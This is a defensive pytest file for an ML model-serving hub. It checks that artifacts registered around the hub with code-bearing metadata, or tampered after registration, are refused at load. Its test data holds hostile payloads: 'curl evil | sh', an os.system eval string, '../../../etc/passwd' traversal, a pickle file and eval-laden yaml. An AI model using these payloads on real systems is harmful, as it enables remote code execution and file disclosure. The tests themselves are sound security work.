"""Artifacts are data, never code. A version registered *around* the hub (straight into MLflow, as
anyone with write access to an unauthenticated registry can) whose metadata names a binary, holds
an eval string or a `../` path, or carries a pickle, is refused at load by the real `speak`
replica core, and the version it already serves keeps answering. A version changed after
registration fails its recorded sha256."""

from __future__ import annotations

import json
import pickle
import shutil
from pathlib import Path

import pytest

from hub.errors import InvalidInput, ModelLoadError
from models.detection.artifact import DetectorSpec
from registry.integrity import DIGEST_TAG, artifact_sha256, check_artifact

NAME = "espeak-ng"


def _register_around_the_hub(store, artifact_dir: Path) -> str:
    """What an attacker with registry write access does: log files and create a version directly,
    with a correct digest tag (the digest is no secret), bypassing `MlflowStore.register`."""
    client = store.client
    run_id = client.create_run(store._experiment_id(), run_name="around-the-hub").info.run_id
    client.log_artifacts(run_id, str(artifact_dir), "model")
    source = f"{client.get_run(run_id).info.artifact_uri}/model"
    version = client.create_model_version(NAME, source=source, run_id=run_id,
                                          tags={DIGEST_TAG: artifact_sha256(artifact_dir)})
    client.set_terminated(run_id)
    return str(version.version)


def _with_metadata(base: Path, out: Path, **changes) -> Path:
    shutil.copytree(base, out)
    doc = json.loads((out / "hub.json").read_text())
    doc["metadata"].update(changes)
    (out / "hub.json").write_text(json.dumps(doc))
    return out


@pytest.fixture
def speak_server(hub_home):
    from serving.config import CapabilityConfig
    from serving.defaults import ensure_defaults
    from serving.deployment import CapabilityServer

    ensure_defaults(["speak"])
    server = CapabilityServer("speak")
    server.configure(CapabilityConfig(model=f"models:/{NAME}@champion"))
    assert server.status()["model"]["version"] == "1"
    base = server.store.resolve(f"models:/{NAME}/1").artifact_dir
    return server, base


def _still_serves_v1(server) -> None:
    answer = server.run([server.parse({"text": "hello"})])[0]
    assert not isinstance(answer, Exception) and answer.model.version == "1"


def _pickle_file(base: Path, out: Path) -> Path:
    shutil.copytree(base, out)
    (out / "voices.dat").write_bytes(pickle.dumps({"voice": "en-us"}))
    return out


BAD_VERSIONS = [
    ("names a binary", lambda b, o: _with_metadata(b, o, binary="/bin/sh"), "names a program"),
    ("names a command", lambda b, o: _with_metadata(b, o, post_command="curl evil | sh"), "names a program"),
    ("eval string", lambda b, o: _with_metadata(b, o, voice_en="__import__('os').system('id')"), "reads like code"),
    ("lambda string", lambda b, o: _with_metadata(b, o, max_chars="lambda: 5"), "reads like code"),
    ("../ path", lambda b, o: _with_metadata(b, o, dictionary_file="../../../etc/passwd"), "outside the artifact"),
    ("absolute path", lambda b, o: _with_metadata(b, o, voices_dir="/usr/lib/x86_64-linux-gnu"), "outside the artifact"),
    ("a pickle inside", _pickle_file, "pickle"),
]


@pytest.mark.parametrize("case,build,why", BAD_VERSIONS, ids=[c[0] for c in BAD_VERSIONS])
def test_a_version_carrying_code_is_refused_at_load_and_the_old_one_keeps_serving(
        speak_server, tmp_path, case, build, why):
    server, base = speak_server
    bad = build(base, tmp_path / "bad")
    version = _register_around_the_hub(server.store, bad)
    server.store.set_alias(NAME, "champion", version)
    assert server.refresh() is False
    assert why in server.status()["last_error"]
    assert server.status()["model"]["version"] == "1"
    _still_serves_v1(server)
    with pytest.raises(InvalidInput, match=why):  # the hub's own register refuses it up front
        server.store.register(NAME, bad, metadata={"capability": "speak"})


def test_an_artifact_changed_after_registration_fails_its_sha256(speak_server, tmp_path):
    server, base = speak_server
    good = _with_metadata(base, tmp_path / "good", voice_en="en-gb")
    version = server.store.register(NAME, good, metadata={"capability": "speak"})
    source = server.store.client.get_model_version(NAME, version).source
    stored = Path(source.removeprefix("file://")) / "hub.json"
    stored.write_text(stored.read_text().replace("en-gb", "en-us"))  # edited in the artifact store
    server.store.set_alias(NAME, "champion", version)
    assert server.refresh() is False
    assert "differs from the sha256 recorded at registration" in server.status()["last_error"]
    _still_serves_v1(server)


def test_the_default_artifacts_pass(speak_server):
    _, base = speak_server
    assert len(check_artifact(base)) == 64


TORCH_ARCH = [
    ("a path", {"torch_arch": "../../evil.yaml"}, "built-in"),
    ("yaml text", {"torch_arch": "backbone: [[-1, 1, eval, ['__import__(\"os\")']]]"}, "built-in"),
    ("own yaml file", {"torch_arch": "model.yaml"}, "built-in"),
    ("model_file outside", {"model_file": "../../model.onnx"}, "model_file"),
    ("model_file absolute", {"model_file": "/tmp/model.onnx"}, "model_file"),
]


@pytest.mark.parametrize("case,meta,why", TORCH_ARCH, ids=[c[0] for c in TORCH_ARCH])
def test_detector_metadata_cannot_reach_ultralytics_or_leave_its_folder(case, meta, why):
    with pytest.raises(ModelLoadError, match=why):
        DetectorSpec.from_metadata({"names": '["car"]', **meta})


def test_detector_builtin_arch_is_accepted():
    assert DetectorSpec.from_metadata({"names": '["car"]', "torch_arch": "yolov8n.yaml"}).torch_arch == "yolov8n.yaml"
